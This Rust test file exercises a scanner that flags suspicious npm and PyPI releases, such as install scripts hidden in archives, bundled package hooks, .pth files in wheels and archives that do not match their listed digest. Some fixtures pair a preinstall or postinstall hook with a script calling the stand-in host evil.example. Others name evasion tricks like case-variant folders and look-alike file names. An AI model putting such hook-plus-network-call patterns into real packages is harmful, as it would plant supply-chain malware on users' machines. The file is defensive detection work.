//! What the archives of releases under judgement add to what their registry says of them.

use std::io::Write as _;

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use flate2::Compression;
use flate2::write::GzEncoder;
use linchpin::package::Ecosystem;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha512};

use super::histories::{LATELY, SETTLED, change, message, of, wheel_file};
use super::suspicious_release::{bump_of, first_hook, signals, with_archive};
use crate::support::archives::{tarball, wheel};
use crate::support::registry::{Packument, Registries};
use crate::support::sandbox::{Report, Sandbox};
use crate::support::server::Answer;

const ARCHIVE: &str = "/npm/acme/-/acme-1.10.0.tgz";

/// A release whose digest the registry does not tell.
fn unlisted() -> Value {
    json!({ "dist": { "integrity": null } })
}

/// Judges a release of which the registry shows no install script, and whose archive holds these files.
fn bump_with(files: &[(&str, &str)]) -> Report {
    let registries = Registries::start();
    let package = Packument::new("acme").routine(10, &json!({}));
    registries.npm(&package.release("1.10.0", LATELY, &unlisted()));
    registries
        .server
        .answer(ARCHIVE, Answer::Bytes(tarball(files)));
    bump_of(&registries)
}

/// Judges a release whose archive holds the same as that of the release before.
fn bump_with_both(files: &[(&str, &str)]) -> Report {
    let registries = Registries::start();
    let package = Packument::new("acme").routine(10, &unlisted());
    registries.npm(&package.release("1.10.0", LATELY, &unlisted()));
    for place in [ARCHIVE, "/npm/acme/-/acme-1.9.0.tgz"] {
        let archive = Answer::Bytes(tarball(files));
        registries.server.answer(place, archive);
    }
    bump_of(&registries)
}

/// Archives are read several at once.
#[test]
fn each_release_of_a_change_is_judged_by_its_own_archive() {
    let registries = Registries::start();
    let names = ["acme", "bolt", "cask", "dune", "elf", "fern", "gull"];
    for (place, name) in names.iter().enumerate() {
        let package = Packument::new(name).routine(10, &json!({}));
        registries.npm(&package.release("1.10.0", LATELY, &unlisted()));
        let manifest = json!({ "scripts": { "preinstall": format!("node {name}.js") } });
        let manifest = if place % 2 == 0 { manifest } else { json!({}) };
        let archive = tarball(&[("package.json", &manifest.to_string())]);
        registries.server.answer(
            &format!("/npm/{name}/-/{name}-1.10.0.tgz"),
            Answer::Bytes(archive),
        );
    }
    let at = |version| names.map(|name| (name, version));
    let (before, after) = (at("1.9.0"), at("1.10.0"));
    let report = change(&registries.sandbox(), Ecosystem::Npm, &before, &after);
    let findings = of(&report, "suspicious-release");
    let scripted = ["acme", "cask", "elf", "gull"];
    assert_eq!(findings.len(), scripted.len(), "{}", report.output);
    for (finding, name) in findings.into_iter().zip(scripted) {
        assert_eq!(finding["package"], format!("pkg:npm/{name}@1.10.0"));
        let told = message(finding);
        assert!(told.contains(&format!("`node {name}.js`")), "{told}");
    }
}

/// npm takes a manifest for its answers that is another than that of the archive, and runs the latter.
#[test]
fn a_script_that_only_the_archive_holds_is_seen() {
    let script = "require('https').get('https://evil.example/x');\n";
    for start in ["", "\u{feff}"] {
        let manifest = json!({ "scripts": { "preinstall": "node x.js", "test": "node test.js" } });
        let manifest = format!("{start}{manifest}");
        let report = bump_with(&[("package.json", &manifest), ("x.js", script)]);
        let finding = report.only("suspicious-release");
        assert_eq!(finding["severity"], "high");
        assert_eq!(signals(finding), ["surface/exec-first", "age/under-1-day"]);
        let told = message(finding);
        assert!(
            told.starts_with("its preinstall script `node x.js` runs"),
            "{told}"
        );
        assert!(
            told.contains("x.js of its preinstall script opens a network"),
            "{told}"
        );
        assert_eq!(report.code(), 1);
    }
}

#[test]
fn a_binding_that_only_the_archive_holds_makes_npm_build() {
    let binding = ("binding.gyp", "{}");
    let report = bump_with(&[("package.json", "{}"), binding]);
    assert_eq!(
        signals(report.only("suspicious-release"))[0],
        "surface/exec-first"
    );
    for manifest in [
        r#"{"gypfile":false}"#,
        r#"{"scripts":{"install":"echo hello"}}"#,
    ] {
        let report = bump_with(&[("package.json", manifest), binding]);
        assert_eq!(report.rules(), ["too-new"], "{manifest}");
    }
    let report = bump_with(&[("package.json", "{}"), ("deps/binding.gyp", "{}")]);
    assert_eq!(report.rules(), ["too-new"], "npm looks at the root only");
}

const BUNDLED: &str = r#"{"scripts":{"postinstall":"node x.js"}}"#;

/// npm runs the scripts of bundled packages, too, and no registry tells of them.
#[test]
fn a_script_of_a_package_that_is_bundled_inside_is_seen() {
    let script = "require('https').get('https://evil.example/x');\n";
    let place = "node_modules/@a/b/node_modules/c";
    let report = bump_with(&[
        ("package.json", "{}"),
        (&format!("{place}/package.json"), BUNDLED),
        (&format!("{place}/x.js"), script),
        ("x.js", "console.log('another');\n"),
    ]);
    let finding = report.only("suspicious-release");
    assert_eq!(finding["severity"], "high");
    let told = message(finding);
    let run = format!("its postinstall script `cd {place} && node x.js` runs");
    assert!(told.starts_with(&run), "{told}");
    let does = format!("{place}/x.js of its postinstall script opens a network");
    assert!(told.contains(&does), "{told}");
}

/// What is bundled beside it may pass for any tool.
#[test]
fn nothing_that_a_bundled_script_does_clears_it() {
    let harmless = r#"{"scripts":{"postinstall":"echo hello"}}"#;
    for bundled in [
        &[("node_modules/b/package.json", harmless)][..],
        &[
            ("node_modules/b/package.json", "{}"),
            ("node_modules/b/binding.gyp", "{}"),
        ],
    ] {
        let files = [&[("package.json", "{}")], bundled].concat();
        let report = bump_with(&files);
        let finding = report.only("suspicious-release");
        assert_eq!(finding["severity"], "high", "{bundled:?}");
    }
}

/// On many machines capitals and small letters make no difference.
#[test]
fn what_is_bundled_under_another_spelling_clears_no_script() {
    let manifest = r#"{"scripts":{"postinstall":"node p.js"}}"#;
    let prints = ("p.js", "console.log(require('chalk').red('hello'))\n");
    let report = bump_with(&[("package.json", manifest), prints]);
    assert_eq!(report.only("suspicious-release")["severity"], "low");
    for folder in ["node_modules", "Node_Modules"] {
        let own = format!("{folder}/chalk/index.js");
        let report = bump_with(&[("package.json", manifest), prints, (&own, "steal()\n")]);
        let finding = report.only("suspicious-release");
        assert_eq!(finding["severity"], "high", "{folder}");
    }
}

/// Where a bundled package has workspaces, npm takes their members for packages.
#[test]
fn members_of_a_workspace_in_an_archive_count_wherever_they_lie() {
    let root = r#"{"workspaces":["lib/*"],"bundleDependencies":["b"]}"#;
    let report = bump_with(&[("package.json", root), ("lib/b/package.json", BUNDLED)]);
    let told = message(report.only("suspicious-release"));
    assert!(
        told.starts_with("its postinstall script `cd lib/b && node x.js`"),
        "{told}"
    );
}

/// Many packages are told, however few of them are looked at.
#[test]
fn many_scripts_of_bundled_packages_are_told_and_stay_unclear() {
    let names: Vec<String> = (0..100)
        .map(|number| format!("node_modules/b{number}/package.json"))
        .collect();
    let mut files = vec![("package.json", "{}")];
    files.extend(names.iter().map(|name| (name.as_str(), BUNDLED)));
    let report = bump_with(&files);
    let finding = report.only("suspicious-release");
    assert_eq!(finding["severity"], "high");
    assert_eq!(report.coverage("suspicious-release"), (1, Vec::new()));
}

#[test]
fn manifests_that_npm_does_not_read_run_nothing() {
    for path in [
        "test/package.json",
        "node_modules/package.json",
        "node_modules/b/test/package.json",
        "test/node_modules/b/package.json",
    ] {
        let report = bump_with(&[("package.json", "{}"), (path, BUNDLED)]);
        assert_eq!(report.rules(), ["too-new"], "{path}");
    }
}

#[test]
fn scripts_that_the_archive_before_bundled_too_are_no_first_ones() {
    let bundled = ("node_modules/b/package.json", BUNDLED);
    let report = bump_with_both(&[("package.json", "{}"), bundled]);
    assert_eq!(report.rules(), ["too-new"]);
}

#[test]
fn an_ordinary_archive_adds_nothing_and_counts_as_looked_at() {
    let manifest = r#"{"scripts":{"build":"tsc","prepare":"husky"}}"#;
    let report = bump_with(&[("package.json", manifest), ("x.js", "1\n")]);
    assert_eq!(report.rules(), ["too-new"]);
    assert_eq!(report.coverage("suspicious-release"), (1, Vec::new()));
    assert_eq!(report.code(), 0);
}

/// Whoever serves bytes that are no archive hides something, or nobody can install it.
#[test]
fn what_is_no_archive_is_not_judged_and_never_clean() {
    for bytes in [
        b"no archive".to_vec(),
        tarball(&[("package.json", "{")]),
        tarball(&[("x.js", "1")]),
        tarball(&[("package.json", "{}"), ("PACKAGE.JSON", "{}")]),
        tarball(&[("package.json", "{}"), ("package.j\u{17f}on", "{}")]),
        tarball(&[("package.json", "{}"), ("binding.gyp.", "{}")]),
        tarball(&[("package.json", "{}"), ("node_modules /b/x.js", "{}")]),
        tarball(&[("node_modules/b/package.json", "{}")]),
        tarball(&[
            ("package.json", "{}"),
            ("node_modules/.package-lock.json", "{}"),
        ]),
        tarball(&[("package.json", "{}"), ("node_modules/b/package.json", "{")]),
        tarball(&[
            ("package.json", "{}"),
            ("node_modules/b/package.json", "{}"),
            ("node_modules/c/package.json", "{}"),
            ("Node_Modules/B/package.json", "{}"),
        ]),
    ] {
        let registries = with_archive("echo hello", &[]);
        registries.server.answer(ARCHIVE, Answer::Bytes(bytes));
        let report = bump_of(&registries);
        let (checked, skipped) = report.coverage("suspicious-release");
        assert_eq!(
            (checked, skipped),
            (0, vec![("strange-archive".to_owned(), 1)])
        );
        assert_eq!(report.code(), 3, "{}", report.output);
    }
}

/// Readers of JSON differ in what they take; npm's takes this.
#[test]
fn what_npm_takes_for_a_manifest_is_one() {
    let deep = format!("{}1{}", "[".repeat(500), "]".repeat(500));
    for field in [
        r#""author":"\ud800""#,
        r#""n":1e999"#,
        &format!(r#""d":{deep}"#),
    ] {
        let report = bump_with(&[("package.json", &format!("{{{field}}}"))]);
        assert_eq!(
            report.coverage("suspicious-release"),
            (1, Vec::new()),
            "{field}"
        );
    }
}

/// A client that does not say so may have published a binding for years.
#[test]
fn a_script_that_the_archive_before_held_too_is_no_first_one() {
    let report = bump_with_both(&[("package.json", "{}"), ("binding.gyp", "{}")]);
    assert_eq!(report.rules(), ["too-new"]);
}

/// What the publisher makes too large is told apart from what nobody serves.
#[test]
fn an_archive_that_is_too_large_is_coverage_and_called_so() {
    let mut packed = GzEncoder::new(Vec::new(), Compression::fast());
    packed
        .write_all(&vec![0; 21 << 20])
        .expect("memory takes all");
    let packed = packed.finish().expect("a stream");
    for answer in [Answer::Claims(21 << 20), Answer::Packed(packed)] {
        let registries = with_archive("echo hello", &[]);
        registries.server.answer(ARCHIVE, answer);
        let report = bump_of(&registries);
        let large = vec![("large-archive".to_owned(), 1)];
        assert_eq!(report.coverage("suspicious-release"), (0, large));
        assert_eq!(report.code(), 0, "{}", report.output);
    }
}

/// Whoever serves one archive to those who look and another to those who install is seen by its digest.
#[test]
fn an_archive_that_is_not_the_listed_one_clears_nothing() {
    let bytes = tarball(&[("package.json", "{}"), ("x.js", "console.log('hello');\n")]);
    let judged = |integrity: &str| {
        let registries = Registries::start();
        let mut package = first_hook("node x.js");
        package.json["versions"]["1.10.0"]["dist"]["integrity"] = integrity.into();
        registries.npm(&package);
        registries
            .server
            .answer(ARCHIVE, Answer::Bytes(bytes.clone()));
        bump_of(&registries)
    };
    let listed = format!("sha512-{}", BASE64_STANDARD.encode(Sha512::digest(&bytes)));
    let weaker = format!("sha1-AAAA {listed}");
    for integrity in [&listed, &weaker] {
        let report = judged(integrity);
        assert_eq!(report.only("suspicious-release")["severity"], "low");
        assert_eq!(report.coverage("suspicious-release"), (1, Vec::new()));
    }
    let other = format!("sha512-{}", BASE64_STANDARD.encode(Sha512::digest("other")));
    let report = judged(&other);
    assert_eq!(report.only("suspicious-release")["severity"], "high");
    let strange = vec![("strange-archive".to_owned(), 1)];
    assert_eq!(report.coverage("suspicious-release"), (0, strange));
}

/// Mirrors often serve no archives: that is coverage.
#[test]
fn an_archive_that_cannot_be_had_is_coverage() {
    let registries = Registries::start();
    registries.npm(&first_hook("echo hello"));
    let report = bump_of(&registries);
    let unread = vec![("unread-archive".to_owned(), 1)];
    assert_eq!(report.coverage("suspicious-release"), (0, unread));
    assert_eq!(report.code(), 0, "{}", report.output);
}

/// Lets a project have a release of an hour ago with these wheels.
fn serve_wheels(registries: &Registries, wheels: &[(&str, Vec<u8>)]) {
    let before = wheel_file("acme", "1.0.0", SETTLED, &json!({}));
    let mut files = vec![before];
    let place = files[0]["url"].as_str().expect("an address").to_owned();
    let answer = Answer::Bytes(wheel(&["acme/__init__.py"]));
    registries.server.answer(&place, answer);
    for (tag, bytes) in wheels {
        let name = format!("acme-1.1.0-{tag}.whl");
        let path = format!("/files/{name}");
        let other = json!({ "filename": name, "url": path, "size": bytes.len() });
        files.push(wheel_file("acme", "1.1.0", LATELY, &other));
        registries
            .server
            .answer(&path, Answer::Bytes(bytes.clone()));
    }
    registries.pypi("acme", &files);
}

fn bump_in(sandbox: &Sandbox) -> Report {
    let (before, after) = ([("acme", "1.0.0")], [("acme", "1.1.0")]);
    change(sandbox, Ecosystem::Pypi, &before, &after)
}

fn bump_of_wheels(wheels: &[(&str, Vec<u8>)]) -> Report {
    let registries = Registries::start();
    serve_wheels(&registries, wheels);
    bump_in(&registries.sandbox())
}

/// A release may get another wheel days after a run that saw nothing in the first.
#[test]
fn a_wheel_that_comes_later_is_looked_into() {
    let registries = Registries::start();
    let sandbox = registries.sandbox();
    let plain = ("py3-none-any", wheel(&["acme/__init__.py"]));
    serve_wheels(&registries, std::slice::from_ref(&plain));
    assert_eq!(bump_in(&sandbox).rules(), ["too-new"]);
    let late = ("cp312-cp312-win_amd64", wheel(&["a.pth"]));
    serve_wheels(&registries, &[plain, late]);
    let report = bump_in(&sandbox);
    let finding = report.only("suspicious-release");
    assert_eq!(signals(finding)[0], "surface/pth-first");
}

/// What was found in some wheels says nothing of the others.
#[test]
fn more_wheels_than_are_read_are_never_called_read() {
    let tags: Vec<String> = (0..25)
        .map(|number| format!("cp312-cp312-linux_{number}"))
        .collect();
    for (file, rules) in [
        ("acme/__init__.py", &["too-new"][..]),
        ("a.pth", &["suspicious-release", "too-new"][..]),
    ] {
        let wheels: Vec<(&str, Vec<u8>)> = (tags.iter())
            .map(|tag| (tag.as_str(), wheel(&[file])))
            .collect();
        let report = bump_of_wheels(&wheels);
        let mut found = report.rules();
        found.sort_unstable();
        assert_eq!(found, rules);
        let (checked, skipped) = report.coverage("suspicious-release");
        assert_eq!(checked, 0);
        assert!(
            skipped.contains(&("large-archive".to_owned(), 1)),
            "{skipped:?}"
        );
    }
}

/// Which wheel is installed depends on the machine.
#[test]
fn every_wheel_of_a_release_is_looked_into() {
    let (plain, bad) = (
        wheel(&["acme/__init__.py"]),
        wheel(&["acme/__init__.py", "a.pth"]),
    );
    let report = bump_of_wheels(&[
        ("py3-none-any", plain.clone()),
        ("cp312-cp312-manylinux_2_17_x86_64", bad),
    ]);
    let finding: &Value = report.only("suspicious-release");
    assert_eq!(signals(finding)[0], "surface/pth-first");
    let broken = b"no wheel".to_vec();
    let report = bump_of_wheels(&[("py3-none-any", plain), ("cp312-cp312-win_amd64", broken)]);
    let (checked, skipped) = report.coverage("suspicious-release");
    assert_eq!(checked, 0);
    let strange = ("strange-archive".to_owned(), 1);
    assert!(skipped.contains(&strange), "{skipped:?}");
    assert_eq!(report.code(), 3, "{}", report.output);
}
